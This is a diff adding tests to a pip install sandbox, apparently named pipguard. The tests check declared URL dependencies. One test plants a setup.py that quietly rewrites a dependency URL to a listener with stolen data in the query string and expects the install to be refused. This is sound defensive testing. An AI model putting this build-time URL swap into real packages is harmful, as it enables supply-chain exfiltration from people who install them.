@@ -97,6 +97,68 @@ def test_hook_result_naming_a_url_is_refused(tmp_path, fake_home, links, target,
     assert any(f["rule"] == "direct-reference" and url in f["message"] for f in pkg["findings"]), pkg
 
 
+def _url_project(root, name, dependency_url, setup_py="from setuptools import setup\nsetup()\n"):
+    """A project whose pyproject.toml declares, as data, one dependency by URL."""
+    src = root / name
+    (src / name).mkdir(parents=True)
+    (src / name / "__init__.py").write_text("VALUE = 1\n")
+    (src / "pyproject.toml").write_text(BACKEND + textwrap.dedent(f"""\
+        [project]
+        name = "{name}"
+        version = "1.0"
+        dependencies = ["urldep @ {dependency_url}"]
+
+        [tool.setuptools]
+        packages = ["{name}"]
+        """))
+    (src / "setup.py").write_text(setup_py)
+    return src
+
+
+def test_a_url_the_project_declares_is_installed_as_pip_would(tmp_path, fake_home, links, any_pip_target):
+    """`-e .` of a project whose pyproject.toml declares `dep @ file:...` (or git+...): pip
+    installs it; the direct-reference check used to refuse it. A URL the author wrote as data,
+    read before any hook ran, carries nothing a build read — pip fetches it as without pipguard
+    (and a local dependency's own hooks are sandboxed like any other)."""
+    dep = write_project(tmp_path / "d", "urldep")
+    proj = _url_project(tmp_path, "urlok", dep.as_uri())
+    proc, report = pg_install(["-e", "."], home=fake_home, target=any_pip_target, route=links, cwd=proj)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    installed = pip_list(any_pip_target)
+    assert installed.get("urlok") == "1.0" and installed.get("urldep") == "1.0", installed
+    assert site_import(any_pip_target, "urldep").returncode == 0
+    assert {p["name"] for p in report["packages"]} >= {"urlok", "urldep"}, report["packages"]
+
+
+URL_SWAP = """
+import os
+# the quiet form: leave the dependency declared, but swap its URL for one carrying data, before
+# the hook that writes the metadata pip acts on (pyproject.toml is the build's own to write)
+with open('pyproject.toml') as handle:
+    text = handle.read()
+with open('pyproject.toml', 'w') as handle:
+    handle.write(text.replace({declared!r}, {leak!r}))
+"""
+
+
+def test_a_declared_url_swapped_by_the_build_is_refused(tmp_path, fake_home, links, target, loopback_tcp):
+    """What the project declares is read before any hook runs: a build that rewrites the
+    declared URL (here to a loopback listener, with data in the URL) is refused, and pip
+    never fetches it."""
+    dep = write_project(tmp_path / "d", "urldep")
+    leak = f"http://127.0.0.1:{loopback_tcp.port}/urldep-1.0.tar.gz?stolen=yes"
+    proj = _url_project(tmp_path, "urlswap", dep.as_uri(),
+                        URL_SWAP.format(declared=dep.as_uri(), leak=leak)
+                        + "from setuptools import setup\nsetup()\n")
+    before = listing(target)
+    proc, report = pg_install(["."], home=fake_home, target=target, route=links, cwd=proj)
+    assert proc.returncode == 1, proc.stderr[-3000:]
+    assert loopback_tcp.received == [], loopback_tcp.received
+    assert listing(target) == before
+    (pkg,) = [p for p in report["packages"] if p["name"] == "urlswap"]
+    assert any(f["rule"] == "direct-reference" and leak in f["message"] for f in pkg["findings"]), pkg
+
+
 # --------------------------------------------------------------------------- the project's .git
 GIT_ATTACKS = {
     # the quiet one: a new hook, run by the user's next checkout, outside any sandbox
